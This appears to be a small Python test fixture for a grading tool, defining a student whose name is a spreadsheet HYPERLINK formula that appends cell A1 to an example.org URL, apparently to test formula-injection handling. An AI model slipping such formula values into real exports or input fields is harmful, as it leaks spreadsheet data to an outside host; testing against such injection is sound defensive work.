"""A student whose name is a formula."""

SCORE = 10
SAYS = None
STUDENT = '=HYPERLINK("http:example.org?"&A1)'


def fill(place, student, slug, right):
    (place / student).mkdir()
    (place / student / f"{slug}.py").write_text(right)
